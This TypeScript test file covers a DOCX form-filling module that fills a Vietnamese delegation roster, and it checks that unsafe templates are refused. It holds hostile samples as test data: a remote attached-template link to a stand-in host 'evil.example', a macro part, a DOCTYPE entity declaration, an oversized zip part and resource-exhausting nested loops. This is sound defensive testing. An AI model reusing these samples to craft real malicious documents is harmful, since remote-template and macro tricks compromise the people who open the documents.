import { Document, Packer, Paragraph, Table, TableCell, TableRow } from 'docx'
import mammoth from 'mammoth'
import PizZip from 'pizzip'
import { expect, test } from 'vitest'
import { fillTemplateApart } from '../template-apart.ts'
import { type FilledTemplate, fillTemplate, readTemplate } from './fill-template.ts'

async function form(...lines: readonly string[]): Promise<Uint8Array> {
  const children = lines.map((text) => new Paragraph(text))
  return new Uint8Array(await Packer.toBuffer(new Document({ sections: [{ children }] })))
}

function withPart(bytes: Uint8Array, name: string, content: string): Uint8Array {
  const zip = new PizZip(bytes)
  zip.file(name, content)
  return zip.generate({ type: 'uint8array', compression: 'DEFLATE' })
}

async function textOf(filled: ReturnType<typeof fillTemplate>): Promise<string> {
  const { bytes } = filled as FilledTemplate
  return (await mammoth.extractRawText({ buffer: Buffer.from(bytes) })).value.replace(/\n+/g, '\n').trim()
}

const DATA = {
  'mission.title': 'Đoàn đi Changwon',
  'mission.purpose': '',
  roster: [
    { at: '1', name: 'Trần Văn Mẫu', post: 'Phó Chủ tịch' },
    { at: '2', name: 'Lê <Thử> & Mẫu', post: '' },
  ],
  guests: [],
}

test('a form is filled: texts, and a line for everybody of a list', async () => {
  const bytes = await form(
    '{mission.title}',
    '{#roster}',
    '{at}. {name}, {post} – {mission.title}',
    '{/roster}',
    '{#guests}{name}{/guests}',
  )
  const within = ['at', 'name', 'post', 'mission.title'].map((name) => ({ name }))
  expect(readTemplate(bytes)).toEqual([
    { name: 'mission.title' },
    { name: 'roster', within },
    { name: 'guests', within: [{ name: 'name' }] },
  ])
  const filled = fillTemplate(bytes, DATA)
  expect(filled).toMatchObject({ missing: [] })
  expect(await textOf(filled)).toBe(
    'Đoàn đi Changwon\n1. Trần Văn Mẫu, Phó Chủ tịch – Đoàn đi Changwon\n2. Lê <Thử> & Mẫu,  – Đoàn đi Changwon',
  )
})

test('a row of a table is one line of a list', async () => {
  const cell = (text: string) => new TableCell({ children: [new Paragraph(text)] })
  const table = new Table({
    rows: [new TableRow({ children: [cell('{#roster}{at}'), cell('{name}{/roster}')] })],
  })
  const bytes = new Uint8Array(await Packer.toBuffer(new Document({ sections: [{ children: [table] }] })))
  expect(await textOf(fillTemplate(bytes, DATA))).toBe('1\nTrần Văn Mẫu\n2\nLê <Thử> & Mẫu')
})

test('what there is nothing for is named, all at once', async () => {
  const bytes = await form('{mission.title} {mission.purpose} {mission.topic} {constructor}')
  expect(fillTemplate(bytes, DATA)).toMatchObject({
    missing: ['mission.purpose', 'mission.topic', 'constructor'],
  })
})

test('a list without its end is refused in words, when it is read and when it is filled', async () => {
  const bytes = await form('{#roster}{name}')
  expect(readTemplate(bytes)).toMatchObject({ problem: 'template-not-read' })
  expect(fillTemplate(bytes, DATA)).toMatchObject({ problem: 'template-not-read' })
})

test('a form with a program in it, or one that would fetch something, is refused', async () => {
  const plain = await form('{mission.title}')
  const link =
    '<Relationship Id="r9" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
  const rels = `<Relationships xmlns="http://x">${link}</Relationships>`
  expect(readTemplate(withPart(plain, 'word/vbaProject.bin', 'x'))).toMatchObject({
    problem: 'template-not-safe',
  })
  expect(readTemplate(withPart(plain, 'word/_rels/settings.xml.rels', rels))).toMatchObject({
    problem: 'template-not-safe',
  })
})

test('a form is held to what every document is: no part that swells, none that declares anything, a whole file', async () => {
  const plain = await form('{mission.title}')
  const swelling = withPart(plain, 'word/media/a.bin', '\0'.repeat(3_000_000))
  const declaring = withPart(plain, 'word/header9.xml', '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')
  const refused = { swelling: 'zip-too-big', declaring: 'xml-with-doctype', text: 'zip-broken' }
  const files = { swelling, declaring, text: new TextEncoder().encode('no packed file, but words') }
  for (const [name, problem] of Object.entries(refused)) {
    const bytes = files[name as keyof typeof files]
    expect([name, readTemplate(bytes)]).toMatchObject([name, { problem }])
    expect([name, fillTemplate(bytes, DATA)]).toMatchObject([name, { problem }])
  }
})

test('lists in lists that grow a small form past its limits end in words, and the program goes on', async () => {
  const bytes = await form('{#roster}{#roster}{#roster}{name}{/roster}{/roster}{/roster}')
  const tight = { heapMb: 256, rssMb: 1_024, wallMs: 60_000, outputBytes: 2_000 }
  expect(await fillTemplateApart(bytes, DATA, tight)).toMatchObject({ problem: 'template-too-heavy' })
})
